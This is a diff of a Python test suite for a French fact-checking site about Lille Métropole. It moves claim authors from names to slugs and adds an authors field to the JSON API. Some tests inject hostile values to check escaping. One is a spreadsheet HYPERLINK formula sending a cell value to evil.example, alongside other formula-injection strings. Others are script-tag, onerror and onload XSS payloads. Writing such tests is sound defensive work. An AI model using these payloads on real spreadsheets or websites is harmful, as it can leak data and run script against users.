@@ -75,7 +75,7 @@ def test_claim_page_shows_the_verdict_badge_and_the_claim_quoted_with_who_and_wh
     html = page(demo_client, f"/affirmations/{EXACT}")
     assert "<h1>« 85 communes » : un chiffre exact pour Lille Métropole en 2012, dépassé depuis</h1>" in html
     assert 'Verdict : <span class="badge verdict-accurate">exact</span>' in html
-    assert '<p class="meta">Lille Métropole, <time datetime="2012-01-01">01/01/2012</time></p>' in html
+    assert '<p class="meta"><a href="/elus/lille-metropole">Lille Métropole</a>, <time datetime="2012-01-01">01/01/2012</time></p>' in html
     assert "<p>« Lille Métropole, C ’est.. […] 85 communes »</p>" in html
     assert 'vérifié le <time datetime="2026-11-23">23/11/2026</time>' in html
 
@@ -273,10 +273,10 @@ def test_an_unknown_verdict_filter_is_ignored_with_a_notice(demo_client, value, 
 
 
 def test_filters_combine_and_keep_the_others_choosable(demo_client):
-    html = page(demo_client, "/affirmations?verdict=needs_context&claimed_by=Lille+Métropole")
+    html = page(demo_client, "/affirmations?verdict=needs_context&claimed_by=lille-metropole")
     assert listed_claims(html) == [MILLION]
     # The verdict facet ignores its own filter: the other verdicts of that author stay listed.
-    assert re.search(r'href="/affirmations\?verdict=accurate&amp;claimed_by=Lille\+M%C3%A9tropole">exact <span class="count">1</span>', html)
+    assert re.search(r'href="/affirmations\?verdict=accurate&amp;claimed_by=lille-metropole">exact <span class="count">1</span>', html)
 
 
 def test_the_list_without_claims_says_so(client):
@@ -411,7 +411,7 @@ def test_the_claims_csv_follows_the_lists_filters(demo_client):
 
 def test_claims_csv_cells_can_never_be_read_as_formulas(claim_client, content_dir):
     rewrite(content_dir, 'title: "« Deux balayeuses » pour deux communes : exact"', 'title: \'=HYPERLINK("http://evil.example/?x="&A1,"clic")\'')
-    rewrite(content_dir, "claimed_by: Ville de Marcq-en-Barœul", "claimed_by: '@SUM(1+1)'")
+    rewrite(content_dir, "claimed_by: ville-de-marcq-en-baroeul", "claimed_by: '@SUM(1+1)'")
     rewrite(content_dir, "theme: Propreté", "theme: '+cmd'")
     rewrite(content_dir, "territory: Marcq-en-Barœul", "territory: '-2+3'")
     _, _, [row] = csv_rows(claim_client)
@@ -429,7 +429,7 @@ def test_api_lists_the_claims_with_counts_latest_first(demo_client):
     assert (data["total"], data["page"], data["pages"], data["per_page"]) == (4, 1, 1, 100)
     assert [claim["id"] for claim in data["claims"]] == sorted(DEMO_CLAIMS, reverse=True)
     assert data["counts"]["verdict"] == {"needs_context": 2, "accurate": 1, "unverifiable": 1}
-    assert data["counts"]["claimed_by"] == {"Lille Métropole": 2, "Métropole européenne de Lille": 2}
+    assert data["counts"]["claimed_by"] == {"lille-metropole": 2, "metropole-europeenne-de-lille": 2}
     assert data["filters"] == {} and data["ignored_filters"] == {}
 
 
@@ -437,7 +437,7 @@ def test_api_filters_claims_by_verdict_and_author(demo_client):
     data = demo_client.get("/api/claims?verdict=needs_context").get_json()
     assert data["total"] == 2 and {claim["verdict"] for claim in data["claims"]} == {"needs_context"}
     assert data["filters"] == {"verdict": "needs_context"}
-    data = demo_client.get("/api/claims?claimed_by=Lille+Métropole&verdict=accurate").get_json()
+    data = demo_client.get("/api/claims?claimed_by=lille-metropole&verdict=accurate").get_json()
     assert [claim["id"] for claim in data["claims"]] == [EXACT]
 
 
@@ -461,12 +461,13 @@ def test_api_gives_one_claim_with_its_verdict_evidence_and_explanation(demo_clie
     assert response.headers["Access-Control-Allow-Origin"] == "*"
     data = response.get_json()
     assert set(data) == {
-        "id", "url", "title", "claimed_by", "claimed_on", "claim", "territory", "theme", "verdict",
+        "id", "url", "title", "claimed_by", "authors", "claimed_on", "claim", "territory", "theme", "verdict",
         "verdict_label", "rating", "reviewed_on", "evidence", "promises", "explanation",
     }  # fmt: skip
     assert data["url"] == f"http://localhost/affirmations/{EXACT}"
     assert (data["verdict"], data["verdict_label"], data["rating"]) == ("accurate", "exact", 5)
-    assert (data["claimed_by"], data["claimed_on"], data["reviewed_on"]) == ("Lille Métropole", "2012-01-01", "2026-11-23")
+    assert (data["claimed_by"], data["claimed_on"], data["reviewed_on"]) == (["lille-metropole"], "2012-01-01", "2026-11-23")
+    assert data["authors"] == [{"id": "lille-metropole", "name": "Lille Métropole", "url": "http://localhost/elus/lille-metropole"}]
     assert data["claim"] == {"source": SIG_SLIDES, "quote": "Lille Métropole, C ’est.. […] 85 communes"}
     assert data["evidence"][1] == {"source": PRESS_RELEASE, "quote": "Au service des 90 communes qui la composent", "note": "En décembre 2019, la MEL indique compter 90 communes."}
     assert len(data["evidence"]) == 3
@@ -598,7 +599,7 @@ def test_search_page_shows_a_claim_with_its_verdict_badge(demo_client):
 
 PAYLOADS = {
     "title": ('title: "« Deux balayeuses » pour deux communes : exact"', 'title: "<script>alert(1)</script> balayeuses"'),
-    "claimed_by": ("claimed_by: Ville de Marcq-en-Barœul", 'claimed_by: "</script><script>alert(1)</script>"'),
+    "claimed_by": ("claimed_by: ville-de-marcq-en-baroeul", 'claimed_by: "</script><script>alert(1)</script>"'),
     "note": ("    note: La délibération précise la répartition.", '    note: "<img src=x onerror=alert(1)>"'),
     "territory": ("territory: Marcq-en-Barœul", 'territory: "<svg onload=alert(1)>"'),
     "theme": ("theme: Propreté", 'theme: "<script>alert(1)</script>"'),
